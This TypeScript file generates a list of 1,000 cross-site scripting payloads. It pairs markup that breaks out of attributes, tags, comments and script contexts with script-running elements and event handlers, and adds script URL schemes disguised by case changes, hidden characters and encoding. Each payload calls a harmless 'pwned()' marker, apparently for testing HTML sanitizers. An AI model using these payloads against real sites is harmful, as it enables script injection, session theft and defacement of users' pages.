/** Closes any context that text can be embedded in: attribute, tag, comment, script, style, or text area. */
const BREAKERS = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "-->",
  "]]>",
  "`",
  "\\",
];

const RUN = "pwned()";

/** Elements that execute script when parsed or interacted with. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror="${RUN}" onload='${RUN}'>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<link rel=stylesheet href="javascript:${RUN}">`,
  `<base href="javascript:${RUN}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<style>@import "javascript:${RUN}"; *{background:url(javascript:${RUN})}</style>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<button popovertarget=p onbeforetoggle=${RUN}>x</button><div popover id=p>x</div>`,
  `<x contenteditable autofocus onfocus=${RUN}>`,
  ` onmouseover=${RUN} style=position:fixed;inset:0 `,
  ` style=animation-name:x onanimationstart=${RUN} `,
];

const SCRIPT_SCHEMES = ["javascript:", "data:text/html,", "vbscript:", "blob:", "file:///", "view-source:javascript:"];
/** Ways to hide a scheme from parsers that are less lenient than browsers. */
const DISGUISES: readonly ((scheme: string) => string)[] = [
  (scheme) => scheme,
  (scheme) => scheme.toUpperCase(),
  (scheme) => [...scheme].map((character, index) => (index % 2 === 0 ? character : character.toUpperCase())).join(""),
  (scheme) => ` ${scheme}`,
  (scheme) => `\t${scheme}`,
  (scheme) => `\u0001${scheme}`,
  (scheme) => `\u00a0${scheme}`,
  (scheme) => `\u200b${scheme}`,
  (scheme) => `${scheme.slice(0, 3)}\n${scheme.slice(3)}`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}`,
  (scheme) => `${scheme.slice(0, 2)}\u00ad${scheme.slice(2)}`,
  (scheme) => scheme.replace(":", "&colon;"),
  (scheme) => scheme.replace(":", "%3A"),
  (scheme) => scheme.replace("j", "&#106;"),
  (scheme) => `//${scheme}`,
  (scheme) => `https:${scheme}`,
];
const SCRIPTS = [RUN, `//%0a${RUN}`, `<script>${RUN}</script>`, `void(${RUN})`, `"onclick="${RUN}`, `'+${RUN}+'`, ";"];

const all = new Set([
  ...BREAKERS.flatMap((breaker) => ELEMENTS.map((element) => `${breaker}${element}`)),
  ...SCRIPT_SCHEMES.flatMap((scheme) =>
    DISGUISES.flatMap((disguise) => SCRIPTS.map((script) => `${disguise(scheme)}${script}`)),
  ),
]);

/** 1,000 XSS payloads: markup that breaks out of its context, and URLs with disguised script. Each calls `pwned()`. */
export const HOSTILE_PAYLOADS: readonly string[] = [...all].slice(0, 1_000);
